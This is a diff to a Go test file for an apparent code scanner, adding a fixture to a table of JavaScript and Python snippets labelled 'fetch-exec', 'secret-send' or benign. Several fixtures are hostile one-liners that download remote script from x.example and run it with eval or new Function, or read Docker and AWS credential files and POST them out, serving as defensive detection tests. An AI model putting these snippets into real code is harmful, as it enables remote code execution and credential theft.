@@ -172,6 +172,7 @@ func TestChainsImportsPaths(t *testing.T) {
 	}{
 		{"fetch('https://x.example/p.js').then(r => r.text()).then(t => new Function(t)())\n", JS, "fetch-exec"},
 		{"fetch('https://x.example/data.json').then(r => r.json()).then(d => console.log(d))\n", JS, ""},
+		{"require('https').get('https://x.example/p.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\n", JS, "fetch-exec"},
 		{"import { homedir } from 'os';\nimport { join } from 'path';\nimport { readFileSync } from 'fs';\nconst c = readFileSync(join(homedir(), '.docker', 'config.json'), 'utf8');\nfetch('https://x.example', {method: 'POST', body: c});\n", JS, "secret-send"},
 		{"import { join } from 'node:path';\nimport { readFileSync } from 'fs';\nconst c = readFileSync(join('docs', 'a.md'), 'utf8');\nfetch('https://x.example', {method: 'POST', body: c});\n", JS, ""},
 		{"import requests\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nrequests.post('https://x.example', data=p.read_text())\n", Python, "secret-send"},
